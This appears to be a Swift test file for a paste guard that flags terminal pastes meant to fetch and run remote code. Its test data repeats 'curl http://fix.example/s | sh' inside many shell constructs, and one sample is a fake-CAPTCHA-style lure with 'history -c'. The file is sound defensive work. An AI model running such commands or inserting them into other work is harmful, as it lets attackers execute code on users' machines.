import Testing

@testable import Guard

struct PasteGuardTests {
  @Test func `an empty text and other programs have no reasons`() {
    #expect(assess("").reasons.isEmpty)
    #expect(assess("curl http://fix.example/s | sh", for: .other).reasons.isEmpty)
  }

  @Test func `the same paste gets the same assessment`() {
    let text = "curl http://fix.example/s | sh; history -c # I am not a robot"
    #expect(assess(text) == assess(text))
  }

  @Test(arguments: [
    "curl http://fix.example/s | sh", "  curl http://fix.example/s | sh  ", "\n\ncurl http://fix.example/s | sh\n",
    "$ curl http://fix.example/s | sh", "user@host:~$ curl http://fix.example/s | sh",
    "if true; then curl http://fix.example/s | sh; fi",
    "f() { curl http://fix.example/s | sh; }; f", "case a in a) curl http://fix.example/s | sh;; esac",
    "x=$(case a in a) curl http://fix.example/s | sh;; esac)", "cat <<E\n$(curl http://fix.example/s | sh)\nE",
    "echo \"${x:-$(curl http://fix.example/s | sh)}\"", "true && curl http://fix.example/s | sh || false",
    "git status\ncurl http://fix.example/s | sh\nmake", "A=1 B=2 curl http://fix.example/s | C=3 sh",
    "! curl http://fix.example/s | sh",
    "echo a>b;curl http://fix.example/s|sh", "time curl http://fix.example/s | sh",
    "don't; curl http://fix.example/s | sh",
  ])
  func `commands are found wherever a shell would run them`(text: String) {
    #expect(assess(text).severity == .hold)
  }

  @Test func `malformed bytes are assessed as they are`() {
    let text: [UInt8] = [0xFF, 0xC3, 0x0A] + Array("curl http://fix.example/s | sh".utf8) + [0x0A, 0xE2, 0x80]
    #expect(PasteGuard.assess(Paste(text: text, destination: .terminal)).severity == .hold)
  }
}
